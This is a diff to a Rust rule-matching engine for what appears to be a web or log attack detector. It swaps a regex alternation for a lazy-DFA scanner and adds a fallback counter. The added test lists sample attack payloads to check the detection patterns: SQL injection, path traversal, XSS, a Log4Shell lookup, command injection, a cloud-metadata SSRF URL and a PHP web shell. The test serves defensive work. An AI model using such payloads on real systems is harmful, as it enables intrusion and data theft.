@@ -1,7 +1,6 @@
-//! A rule file compiled once: the regexes of a field are joined into one
-//! alternation (linear time, one pass per field and line) that answers
-//! "any of them?"; only on a line where one matched are the patterns run
-//! one by one to learn which. Rules then read which patterns matched,
+//! A rule file compiled once: the regexes of a field are compiled together
+//! into one lazy DFA that tells which of them match in one pass per field
+//! and line (linear time; see `scan`). Rules then read which patterns matched,
 //! compare numbers, CIDRs and literals, follow parent/child links, apply
 //! allow-lists and count frequencies.
 //!
@@ -14,6 +13,8 @@
 use std::borrow::Cow;
 use std::collections::{HashMap, VecDeque};
 use std::net::IpAddr;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
 
 use ipnet::IpNet;
 use jaga_decode::pattern::{check_length, REGEX_DFA_SIZE_LIMIT, REGEX_SIZE_LIMIT};
@@ -22,6 +23,7 @@ use regex::bytes::{Regex, RegexBuilder};
 
 use super::format::{ConditionSpec, RuleFile, RuleSpec};
 use super::normalize::normalize;
+use super::scan::Scanner;
 
 /// An error in a rule file, with the rule, the file and the line it is on.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
@@ -71,7 +73,7 @@ fn place(file: Option<&str>, line: Option<usize>) -> String {
 pub const MAX_RULE_FILE_BYTES: u64 = 1 << 20;
 
 /// The most heap the patterns of one field may take compiled together (and
-/// the lazy DFA's cache of that alternation).
+/// the lazy DFA's cache of them).
 const SET_SIZE_LIMIT: usize = 32 << 20;
 
 /// One rule file's text and the name errors give it.
@@ -139,30 +141,30 @@ struct Rule {
 /// conditions' compiled regexes on it: what a [`FieldSet`] is built from.
 type FieldPatterns = (String, bool, Vec<Regex>);
 
-/// The patterns of one field (normalized or raw) as one alternation that
-/// answers "any of them?": that search stops at the first match and runs
-/// the DFA's fast loop. Most lines match nothing; on one that matches, each
-/// pattern runs alone to tell which. Fields with the same patterns share
-/// one compiled alternation, and the patterns are the conditions' own
-/// compiled regexes: a `RegexSet` beside them would hold every pattern a
-/// second time (it was half of the rules' memory) to save a few searches on
-/// the rare line that matches.
+/// The patterns of one field (normalized or raw) compiled together into
+/// one lazy DFA that tells which of them match in one pass over the text
+/// (see [`Scanner`]). Fields with the same patterns share one. The
+/// conditions' own compiled regexes are kept for the payload (the text the
+/// first one matched), and to run one by one on a text the DFA gave up on.
 #[derive(Debug)]
 struct FieldSet {
     field: String,
     normalized: bool,
-    any: Regex,
+    scanner: Arc<Scanner>,
     patterns: Vec<Regex>,
 }
 
 impl FieldSet {
     /// Which patterns match `text`, by index; `None` when none does.
-    fn matches(&self, text: &[u8]) -> Option<Vec<bool>> {
-        if !self.any.is_match(text) {
-            return None;
+    fn matches(&self, text: &[u8], fallbacks: &AtomicU64) -> Option<Vec<bool>> {
+        match self.scanner.matches(text) {
+            Ok(found) => found,
+            Err(_) => {
+                fallbacks.fetch_add(1, Ordering::Relaxed);
+                let matched: Vec<bool> = self.patterns.iter().map(|p| p.is_match(text)).collect();
+                matched.contains(&true).then_some(matched)
+            }
         }
-        let matched: Vec<bool> = self.patterns.iter().map(|p| p.is_match(text)).collect();
-        matched.contains(&true).then_some(matched)
     }
 }
 
@@ -293,6 +295,8 @@ pub struct RuleSet {
     rules: Vec<Rule>,
     sets: Vec<FieldSet>,
     pub decoders: UserDecoders,
+    /// Texts the lazy DFA gave up on, matched pattern by pattern instead.
+    fallbacks: AtomicU64,
 }
 
 impl RuleSet {
@@ -423,31 +427,24 @@ impl RuleSet {
             rules.push(rule_from(spec, parent, conditions, allow, frequency));
         }
         let mut sets = Vec::new();
-        // Each distinct alternation compiled once (body and headers carry
-        // the same web rules).
-        let mut compiled: HashMap<String, Regex> = HashMap::new();
+        // Each distinct list of patterns compiled once (body and headers
+        // carry the same web rules).
+        let mut compiled: HashMap<Vec<&str>, Arc<Scanner>> = HashMap::new();
         for (slot, (field, normalized, list)) in patterns.iter().enumerate() {
-            let alternation = list
-                .iter()
-                .map(|regex| format!("(?:{})", regex.as_str()))
-                .collect::<Vec<_>>()
-                .join("|");
-            let any = match compiled.get(&alternation) {
-                Some(any) => Ok(any.clone()),
-                None => RegexBuilder::new(&alternation)
-                    .unicode(false)
-                    .size_limit(SET_SIZE_LIMIT)
-                    .dfa_size_limit(SET_SIZE_LIMIT)
-                    .build()
-                    .inspect(|any| {
-                        compiled.insert(alternation, any.clone());
-                    }),
+            let texts: Vec<&str> = list.iter().map(Regex::as_str).collect();
+            let scanner = match compiled.get(&texts) {
+                Some(scanner) => Ok(Arc::clone(scanner)),
+                None => Scanner::new(&texts, SET_SIZE_LIMIT).map(|scanner| {
+                    let scanner = Arc::new(scanner);
+                    compiled.insert(texts, Arc::clone(&scanner));
+                    scanner
+                }),
             };
-            match any {
-                Ok(any) => sets.push(FieldSet {
+            match scanner {
+                Ok(scanner) => sets.push(FieldSet {
                     field: field.clone(),
                     normalized: *normalized,
-                    any,
+                    scanner,
                     patterns: list.clone(),
                 }),
                 Err(e) => {
@@ -472,6 +469,7 @@ impl RuleSet {
                 rules,
                 sets,
                 decoders,
+                fallbacks: AtomicU64::new(0),
             }),
             1 => Err(RuleFileError::Rule(errors.remove(0))),
             _ => Err(RuleFileError::Many(errors)),
@@ -480,6 +478,13 @@ impl RuleSet {
 
     pub fn len(&self) -> usize {
         self.rules.len()
+    }
+
+    /// Field texts on which the patterns' lazy DFA gave up (its cache
+    /// thrashed, or a Unicode `\b` met non-ASCII text) and which were
+    /// matched pattern by pattern instead, slower but with the same result.
+    pub fn dfa_fallbacks(&self) -> u64 {
+        self.fallbacks.load(Ordering::Relaxed)
     }
 
     pub fn is_empty(&self) -> bool {
@@ -512,7 +517,7 @@ impl RuleSet {
                     true => Cow::Owned(normalize(raw)),
                     false => Cow::Borrowed(raw),
                 };
-                Some((s.matches(text.as_bytes()), text))
+                Some((s.matches(text.as_bytes(), &self.fallbacks), text))
             })
             .collect();
         let mut text_of = |field: &str, normalized: bool| -> Option<Cow<'_, str>> {
@@ -790,7 +795,7 @@ fn holds<'a>(
 }
 
 /// Whether pattern `index` of a field matched, given what the field's
-/// alternation found.
+/// DFA found.
 fn pattern_matched(matches: Option<&[bool]>, index: usize) -> bool {
     matches.and_then(|m| m.get(index)).copied().unwrap_or(false)
 }
@@ -876,4 +881,77 @@ pub(crate) fn line_of_value(
         })
         .nth(occurrence)
         .map(|(i, _)| i + 1)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Long texts of the kinds an attacker sends to slow matching down,
+    /// with and without an attack inside, and attacks alone.
+    fn texts() -> Vec<String> {
+        let mut texts = Vec::new();
+        let attacks = [
+            "1' union select password from users--",
+            "../../../../etc/passwd",
+            "<script>alert(1)</script>",
+            "${jndi:ldap://x/a}",
+            ";cat /etc/hosts",
+            "http://169.254.169.254/latest/meta-data/",
+            "<?php system($_GET['c']); ?>",
+            "http://a%2f@b/",
+        ];
+        for unit in [
+            "a",
+            "'",
+            "(",
+            "../",
+            "/*",
+            "${",
+            "&#x",
+            "a=1&",
+            "hello world ",
+            "שלום עולם ",
+            "привет мир ",
+            "你好世界 ",
+            "\"",
+            "<a ",
+            ";a",
+            "\u{fffd}",
+        ] {
+            let pad = unit.repeat(3000 / unit.len());
+            texts.push(format!("/search?q={pad}"));
+            for attack in attacks {
+                texts.push(format!("/search?q={pad}{attack}"));
+                texts.push(format!("/search?q={attack}{pad}"));
+            }
+        }
+        texts.extend(attacks.iter().map(|a| format!("/x?q={a}")));
+        texts
+    }
+
+    #[test]
+    fn each_field_dfa_tells_the_same_patterns_as_the_patterns_one_by_one() {
+        let rules = crate::logs::builtin().unwrap();
+        for text in texts() {
+            for set in &rules.sets {
+                let text = match set.normalized {
+                    true => normalize(&text),
+                    false => text.clone(),
+                };
+                let one_by_one: Vec<bool> = set
+                    .patterns
+                    .iter()
+                    .map(|p| p.is_match(text.as_bytes()))
+                    .collect();
+                assert_eq!(
+                    set.scanner.matches(text.as_bytes()).unwrap(),
+                    one_by_one.contains(&true).then_some(one_by_one),
+                    "field {} on {:?}",
+                    set.field,
+                    text.get(..80)
+                );
+            }
+        }
+    }
 }
